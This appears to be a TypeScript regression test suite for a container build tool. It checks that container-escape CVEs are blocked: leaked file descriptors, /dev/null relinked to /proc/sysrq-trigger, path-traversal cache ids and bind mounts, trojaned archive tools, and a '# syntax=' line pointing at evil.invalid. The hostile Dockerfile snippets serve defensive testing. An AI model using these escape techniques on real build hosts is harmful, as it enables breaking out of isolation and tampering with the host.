/** What a hostile Dockerfile or base image may try from inside a step, and what mounts and cache ids may try. */
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { busyboxLayout } from '../support/base-image.ts';
import { Bench } from '../support/cli.ts';

const bench = new Bench();
let base = '';
let outside = '';
beforeAll(() => {
  base = `busybox=oci-layout://${busyboxLayout(bench.dir)}`;
  outside = join(bench.dir, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'sentinel'), 'untouched');
});
afterAll(() => bench.dispose());

const build = (name: string, dockerfile: string, ...args: readonly string[]) =>
  bench.run([
    'build',
    '--build-context',
    base,
    '--progress',
    'plain',
    ...args,
    bench.context(name, { Dockerfile: dockerfile }),
  ]);

it('CVE-2024-21626: a working directory by way of a leaked descriptor leads nowhere', async () => {
  for (const fd of [3, 7, 9, 20]) {
    const result = await build(
      `fd-${fd}`,
      `FROM busybox\nWORKDIR /proc/self/fd/${fd}\nRUN ls ../../../../../../..${outside}\n`,
    );
    expect(result.code).not.toBe(0);
    expect(result.stderr).not.toContain('sentinel\n');
  }
  const descriptors = await build(
    'descriptors',
    'FROM busybox\nRUN for fd in /proc/self/fd/*; do readlink $fd; done; true\n',
  );
  const said = descriptors.stderr
    .split('\n')
    .filter((line) => line.startsWith('#5 '))
    .join('\n');
  expect(said).not.toContain(bench.dir);
});

it('CVE-2025-31133, CVE-2025-52565: links in the place of /dev/null and /dev/console mask nothing and open nothing', async () => {
  const result = await build(
    'devices',
    `FROM busybox AS evil
RUN rm -rf /dev/null /dev/console; ln -s /proc/sysrq-trigger /dev/null 2>/dev/null; true
FROM evil
RUN echo b > /dev/null; cat /proc/kcore 2>/dev/null | head -c 1 | wc -c | grep -qx 0
RUN ! (echo 1 > /proc/sys/kernel/sysrq) 2>/dev/null
`,
  );
  expect(result, result.stderr).toMatchObject({ code: 0 });
});

it('CVE-2024-9675: the id of a cache is a name, never a path', async () => {
  const id = `../../../../../../../..${outside}`;
  const result = await build(
    'cache-id',
    `FROM busybox\nRUN --mount=type=cache,id=${id},target=/c ls /c && touch /c/planted\n`,
  );
  expect(result.code, result.stderr).toBe(0);
  expect(readdirSync(outside)).toEqual(['sentinel']);
});

it('CVE-2024-1753, CVE-2024-11218: the source of a bind is resolved inside what it is from', async () => {
  const result = await build(
    'bind',
    `FROM busybox AS evil
RUN ln -s / /root-link && ln -s ../../../../../../..${outside} /up
FROM busybox
RUN --mount=type=bind,from=evil,source=/root-link,target=/m,rw ls /m && touch /m/planted && ! test -e /m${outside}
RUN --mount=type=bind,from=evil,source=/up,target=/m2 ls /m2
`,
  );
  expect(result.code).not.toBe(0);
  expect(existsSync('/planted')).toBe(false);
  expect(readdirSync(outside)).toEqual(['sentinel']);
});

it('CVE-2024-9407: mounts take no options but those that are known', async () => {
  for (const option of ['bind-propagation=rshared', 'propagation=shared', 'z', 'relabel=shared', 'options=suid']) {
    const result = await build(
      `option-${option.replace(/\W/g, '-')}`,
      `FROM busybox\nRUN --mount=type=bind,target=/m,${option} true\n`,
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('Dockerfile:2');
  }
});

it('CVE-2019-14271, CVE-2026-41567: programs of the image never run outside a step', async () => {
  const marker = join(outside, 'ran');
  const dockerfile = `FROM busybox
RUN for p in xz bzip2 gzip tar zstd unpigz pigz git; do printf '#!/bin/sh\\ntouch ${marker}\\n' > /bin/$p.new; chmod +x /bin/$p.new; mv /bin/$p.new /bin/$p; done
ADD archive.tar.xz /unpacked/
COPY --from=busybox /bin/busybox /copied
`;
  const { execFileSync } = await import('node:child_process');
  const context = bench.context('programs', { Dockerfile: dockerfile, 'inner/file': 'x' });
  execFileSync('tar', ['-C', context, '-cJf', join(context, 'archive.tar.xz'), 'inner']);
  const result = await bench.run([
    'build',
    '--build-context',
    base,
    '-t',
    'programs',
    '-o',
    join(bench.dir, 'programs-out'),
    context,
  ]);
  expect(result, result.stderr).toMatchObject({ code: 0 });
  expect(existsSync(marker)).toBe(false);
  expect(readFileSync(join(bench.dir, 'programs-out/unpacked/inner/file'), 'utf8')).toBe('x');
});

it('CVE-2026-33747: a # syntax= line fetches and runs nothing', async () => {
  const result = await build('syntax', '# syntax=evil.invalid/frontend:latest\nFROM scratch\nLABEL a=b\n');
  expect(result, result.stderr).toMatchObject({ code: 0 });
  expect(result.stderr).not.toContain('evil.invalid');
});

describe('CVE-2019-10152, CVE-2019-18466: links and wildcards of a stage are resolved in the stage', () => {
  it.each([
    'COPY --from=evil /link/sentinel /x',
    'COPY --from=evil /link/* /x/',
    'COPY --from=evil /up/sentinel /x',
    'COPY --from=evil /file /x',
  ])('%s', async (copy) => {
    const out = join(bench.dir, `links-${copy.replaceAll(/\W/g, '')}`);
    const result = await build(
      `links-${copy.replaceAll(/\W/g, '')}`,
      `FROM busybox AS evil\nRUN ln -s ${outside} /link; ln -s ../../../..${outside} /up; ln -s ${outside}/sentinel /file\nFROM scratch\n${copy}\n`,
      '-o',
      out,
    );
    if (result.code === 0 && existsSync(join(out, 'x'))) {
      const text = readdirSync(out, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'));
      expect(text.join()).not.toContain('untouched');
    }
  });
});

it('CVE-2024-24557: what a base image is to do, and how it is checked, is part of what an image is', async () => {
  const stamp = async (name: string, lines: string) => {
    const result = await build(
      name,
      `FROM busybox AS base\n${lines}\nFROM base\nRUN cat /proc/sys/kernel/random/uuid > /stamp\n`,
      '-t',
      name,
    );
    expect(result, result.stderr).toMatchObject({ code: 0 });
    return JSON.parse((await bench.run(['inspect', name])).stdout) as [{ Config: Record<string, unknown> }];
  };
  const [plain] = await stamp('plain', 'LABEL x=1');
  const [checked] = await stamp('checked', 'HEALTHCHECK CMD true');
  const [triggered] = await stamp('triggered', 'ONBUILD ENV TRIGGERED=yes');
  expect(plain.Config['Healthcheck']).toBeUndefined();
  expect(checked.Config['Healthcheck']).toBeDefined();
  expect(triggered.Config['Env']).toContain('TRIGGERED=yes');
});
